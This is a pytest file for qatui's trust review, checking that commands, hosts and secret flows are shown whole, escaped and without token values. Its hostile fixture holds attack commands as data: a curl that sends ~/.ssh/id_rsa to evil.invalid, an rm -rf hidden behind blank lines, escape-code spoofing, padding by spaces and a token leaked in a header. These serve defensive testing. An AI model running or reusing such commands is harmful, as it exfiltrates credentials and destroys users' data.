"""The trust review cannot be spoofed: `qatui trust` and the screen's trust dialog show every
command whole and inert, where it runs, per environment; every host; every secret and
environment variable read and where each is sent; and never a token from the environment.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from qatui.cli import main
from qatui.core.loader import load_checklist
from qatui.core.trust_review import command_count, review, review_blocks, shown_command
from qatui.ui.screens.modals import TrustModal
from tests.ui.helpers import make_app, screen_text

TOKEN = "ghp_Real0Token1From2The3Environment"
API = "api-S3cr3t-Value-77"
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

HOSTILE = """\
qatui: 1
title: Looks harmless
from_env: [GITHUB_TOKEN]
secrets:
  api: {env: API_TOKEN}
vars:
  base: http://127.0.0.1:9/
environments:
  staging: {label: Staging, default: true, vars: {base: "http://127.0.0.1:8001"}}
  prod: {label: Prod, vars: {base: "https://shop.invalid"}}
  also-staging: {label: Staging 2, vars: {base: "http://127.0.0.1:8001"}}
logs:
  tail: {command: "ssh ${base} tail -f log"}
sections:
  - id: s
    title: S
    priority: critical
    items:
      - id: a
        title: A
        notes: &hidden ": curl -d @$HOME/.ssh/id_rsa evil.invalid"
        probes:
          - id: spoof
            kind: command
            run: ": touch pwned #\\e[2K\\r    $ echo harmless"
          - id: fold
            kind: command
            run: "echo oneBLANKS\\n: rm -rf ~/important"
          - id: alias
            kind: command
            run: *hidden
          - id: leak
            kind: command
            run: ": curl -H 'X: ${GITHUB_TOKEN}' ${base}"
          - id: wide
            kind: command
            run: "echo okSPACES; : curl evil.invalid"
          - id: web
            kind: http
            url: "${base}/x"
            headers: {Authorization: "Bearer ${api}"}
          - id: port
            kind: tcp
            host: db.invalid
            port: 5432
""".replace("BLANKS", "\\n" * 46).replace("SPACES", " " * 300)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.yaml"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def env_of(tmp_path: Path) -> dict[str, str]:
    return {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "XDG_DATA_HOME": str(tmp_path / "data"),
            "XDG_CONFIG_HOME": str(tmp_path / "config"), "API_TOKEN": API, "GITHUB_TOKEN": TOKEN, "NO_COLOR": "1"}


def test_a_command_is_shown_whole_and_inert() -> None:
    assert shown_command("touch x #\x1b[2K\r$ echo harmless") == "    $ touch x #\\e[2K\\r$ echo harmless"
    folded = shown_command("echo one" + "\n" * 47 + "rm -rf ~")
    assert folded.splitlines() == ["    $ echo one", "      … 46 blank lines …", "    > rm -rf ~"]
    assert "‹300 spaces›" in shown_command("echo ok" + " " * 300 + "; curl evil")
    assert shown_command("a\n\nb").splitlines() == ["    $ a", "    >", "    > b"]  # one blank line as is


def test_the_review_shows_every_command_host_and_input_per_environment(hostile: Path, tmp_path: Path) -> None:
    checklist = load_checklist(hostile, env=env_of(tmp_path))
    reviews = review(checklist, "staging")
    assert [r.environments for r in reviews] == [["staging", "also-staging"], ["prod"]]
    text = "\n".join(review_blocks(checklist, "staging"))
    assert RAW.search(text) is None
    assert "$ : touch pwned #\\e[2K\\r    $ echo harmless" in text
    assert "… 46 blank lines …" in text and "> : rm -rf ~/important" in text
    assert "[a/alias] on this machine:\n    $ : curl -d @$HOME/.ssh/id_rsa evil.invalid" in text
    assert "; : curl evil.invalid" in text
    assert "[log source tail] on this machine:\n    $ ssh http://127.0.0.1:8001 tail -f log" in text
    assert "http://127.0.0.1:8001  (a/web)" in text and "https://shop.invalid  (a/web)" in text
    assert "tcp db.invalid:5432  (a/port)" in text
    assert "secret ${api} from environment variable $API_TOKEN  → sent to http://127.0.0.1:8001" in text
    assert "environment variable ${GITHUB_TOKEN}  → sent to the command of a/leak" in text
    assert TOKEN not in text and API not in text  # values from the environment stay ${NAME}
    assert command_count(checklist) == 6


def test_qatui_trust_prints_the_review_inert_and_the_screen_shows_the_same(
    hostile: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    env = env_of(tmp_path)
    try:
        code = main(["trust", str(hostile), "--yes"], env)
    except SystemExit as exit_:
        code = int(exit_.code or 0)
    out = capsysbinary.readouterr().out.decode()
    assert code == 0
    assert RAW.search(out) is None and TOKEN not in out and API not in out
    assert "runs 6 command(s)" in out and "$ : touch pwned #\\e[2K\\r" in out
    assert out.split("\n\n")[1].splitlines() == "\n".join(review_blocks(load_checklist(hostile, env=env), "staging")).splitlines()


async def test_the_trust_dialog_shows_the_review_and_keeps_y_until_the_end(hostile: Path, tmp_path: Path) -> None:
    env = env_of(tmp_path)
    app = make_app(tmp_path, hostile, env_vars=env, env_key="staging", trusted=False)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("r")
        await pilot.pause()
        assert isinstance(app.screen, TrustModal)
        body = str(app.screen.query_one("#trust-commands").query_one("Static").render())
        assert body.splitlines() == "\n".join(review_blocks(load_checklist(hostile, env=env), "staging")).splitlines()
        assert "runs 6 commands" in screen_text(app)
        shown = screen_text(app)
        assert TOKEN not in shown and API not in shown and RAW.search(shown) is None
        await pilot.press("y")  # the end has not been on screen: no trust yet
        await pilot.pause()
        assert isinstance(app.screen, TrustModal)
        await pilot.press("G")
        await pilot.pause()
        assert "environment variable ${GITHUB_TOKEN}" in screen_text(app)
        await pilot.press("n")


def test_a_host_chosen_at_run_time_is_shown_as_written_never_as_a_blank(tmp_path: Path) -> None:
    """The demo's URLs are `${base_url}/…` with `base_url: "${QATUI_DEMO_BASE_URL:-http://…}"`:
    the review must say where the host comes from (it once said `://?`)."""
    checklist = load_checklist(Path(__file__).resolve().parents[2] / "checklists" / "demo.yaml", env={})
    text = "\n".join(review_blocks(checklist, "demo"))
    assert "://?" not in text
    assert "${QATUI_DEMO_BASE_URL:-http://127.0.0.1:8001} (decided when it runs)  (health/health" in text
    assert "→ sent to ${QATUI_DEMO_BASE_URL:-http://127.0.0.1:8001} (decided when it runs)" in text
